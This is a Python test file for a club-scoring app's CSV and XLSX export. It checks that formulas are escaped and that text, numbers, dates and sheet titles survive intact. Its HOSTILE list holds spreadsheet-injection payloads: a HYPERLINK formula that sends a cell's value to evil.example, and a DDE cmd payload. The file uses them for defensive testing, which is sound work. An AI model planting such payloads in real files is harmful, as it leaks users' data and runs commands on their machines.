"""CSV and XLSX, read back: texts stay texts whatever they say, numbers and dates what they are."""

from datetime import date, datetime
from fractions import Fraction

import pytest
from openpyxl.cell.cell import TYPE_FORMULA

from clubscore.exchange.downloads.spreadsheets import (
    LONGEST_TITLE,
    DownloadTable,
    Separator,
    csv_file,
    xlsx_file,
)
from tests.exchange.files import csv_rows, workbook_of, xlsx_rows

HOSTILE = [
    "=1+1",
    '=HYPERLINK("https://evil.example/?"&A1,"prize")',
    "=cmd|' /C calc'!A0",
    "+39 0544 123456",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "＝1+1",
    "＠SUM(1)",
]
HARMLESS = [
    "Rossi, Mario",
    'Anna "la Volpe" Bianchi',
    "due\nrighe",
    "O’Neill; Zoë",
    "'quoted'",
    "龍 🀄 ß",
    "#N/A",
    "TRUE",
    "07010012",
    "1e5",
    "2026-03-14",
    " mezzo ",
]


def one(value: object) -> DownloadTable:
    return DownloadTable("Prova", ("A",), [[value]])  # type: ignore[list-item]


@pytest.mark.parametrize("text", HOSTILE)
def test_a_formula_is_a_text_in_csv(text):
    safe = f"'{text[0]}'{text[1:]}" if text[0] in "\t\r\n" else f"'{text}"
    assert csv_rows(csv_file(one(text)))[1] == [safe]
    assert csv_rows(csv_file(DownloadTable("Prova", (text,), [])))[0] == [safe]


@pytest.mark.parametrize("between", [";", ";  ", '; "', "\t", "\n", "\r\n "])
def test_no_formula_begins_within_a_text_where_other_signs_separate(between):
    for sign in "=+-@＝－":
        (_heading, (cell,)) = csv_rows(csv_file(one(f"Rossi{between}{sign}1+1")))
        assert cell == f"Rossi{between}'{sign}1+1"
    (_heading, (cell,)) = csv_rows(csv_file(one(f"Rossi{between}Neri = 1; x-y")))
    assert cell == f"Rossi{between}Neri = 1; x-y"


@pytest.mark.parametrize("text", HOSTILE)
def test_a_formula_is_a_text_in_xlsx(text):
    workbook = workbook_of(xlsx_file([one(text), DownloadTable("Testa", (text,), [])]))
    for cell in (workbook["Prova"]["A2"], workbook["Testa"]["A1"]):
        assert cell.data_type != TYPE_FORMULA
        assert cell.value.replace("\r", "\n") == text.replace("\r", "\n")  # XML knows one line end
        assert cell.quotePrefix


@pytest.mark.parametrize("text", HARMLESS)
def test_other_texts_come_back_as_they_were(text):
    assert csv_rows(csv_file(one(text)))[1] == [text]
    cell = workbook_of(xlsx_file([one(text)]))["Prova"]["A2"]
    assert (cell.value, cell.data_type) == (text, "s")
    assert not cell.quotePrefix


def test_a_number_of_eight_digits_keeps_its_zero():
    cell = workbook_of(xlsx_file([one("07010012")]))["Prova"]["A2"]
    assert cell.number_format == "@"


@pytest.mark.parametrize("sign", ["\0", "\x08", "\x0b", "\x1b", "\x7f", "\ufffe", "\ud800"])
def test_control_characters_go(sign):
    assert csv_rows(csv_file(one(f"a{sign}b")))[1] == ["ab"]
    assert xlsx_rows(xlsx_file([one(f"a{sign}b")]))[1] == ["ab"]
    assert csv_rows(csv_file(one(f"{sign}=1")))[1] == ["'=1"]  # nothing hides behind them


@pytest.mark.parametrize(
    ("value", "text", "read"),
    [
        pytest.param(-16, "-16", -16, id="negative"),
        pytest.param(0, "0", 0, id="zero"),
        pytest.param(2.5, "2.5", 2.5, id="float"),
        pytest.param(Fraction(4), "4", 4, id="whole"),
        pytest.param(Fraction(7, 4), "1.75", 1.75, id="quarters"),
        pytest.param(Fraction(-1, 2), "-0.5", -0.5, id="minus-half"),
        pytest.param(Fraction(7, 3), "2.3333", 7 / 3, id="thirds"),
        pytest.param(None, "", None, id="nothing"),
        pytest.param("", "", None, id="empty"),
        pytest.param(date(2026, 3, 14), "2026-03-14", datetime(2026, 3, 14), id="day"),  # noqa: DTZ001
        pytest.param(
            datetime(2026, 3, 14, 21, 5, 9, 123456),  # noqa: DTZ001 - local, as spreadsheets have it
            "2026-03-14 21:05:09",
            datetime(2026, 3, 14, 21, 5, 9),  # noqa: DTZ001
            id="time",
        ),
        pytest.param(date(1, 1, 1), "0001-01-01", "0001-01-01", id="before-the-calendar"),
    ],
)
def test_what_is_no_text(value, text, read):
    assert csv_rows(csv_file(one(value)))[1] == [text]
    got = xlsx_rows(xlsx_file([DownloadTable("Prova", ("A", "B"), [[value, 1]])]))[1][0]
    assert got == (pytest.approx(read) if isinstance(read, float) else read)
    assert type(got) is type(read)


def test_the_heading_is_bold_and_stays_in_sight():
    sheet = workbook_of(xlsx_file([DownloadTable("Prova", ("Nome", "P"), [["x" * 300, 1]])]))[
        "Prova"
    ]
    assert sheet.freeze_panes == "A2"
    assert [cell.font.b for cell in sheet[1]] == [True, True]
    assert not sheet["A2"].font.b
    assert sheet.column_dimensions["A"].width == 48
    assert sheet.column_dimensions["B"].width == 6


def test_titles_of_sheets_are_what_excel_allows():
    titles = ["Mani: [tutte]/1*?\\", "x" * 40, "X" * 40, "", "'", "Mani: [tutte]/1*?\\"]
    names = workbook_of(
        xlsx_file([DownloadTable(title, ("A",), []) for title in titles])
    ).sheetnames
    assert len({name.casefold() for name in names}) == len(titles)
    assert all(0 < len(name) <= LONGEST_TITLE for name in names)
    assert not any(sign in name for name in names for sign in "[]:*?/\\")


def test_a_very_long_text_is_cut_where_excel_ends():
    assert len(xlsx_rows(xlsx_file([one("x" * 40000)]))[1][0]) == 32767


@pytest.mark.parametrize(
    ("separator", "line"),
    [
        (Separator.COMMA, "Rossi;x,1.75,3"),
        (Separator.SEMICOLON, '"Rossi;x";1,75;3'),
        (Separator.TAB, "Rossi;x\t1.75\t3"),
    ],
)
def test_columns_are_separated_as_wanted(separator, line):
    table = DownloadTable("Prova", ("a", "b", "c"), [["Rossi;x", Fraction(7, 4), 3]])
    assert csv_file(table, separator).decode().splitlines()[1] == line
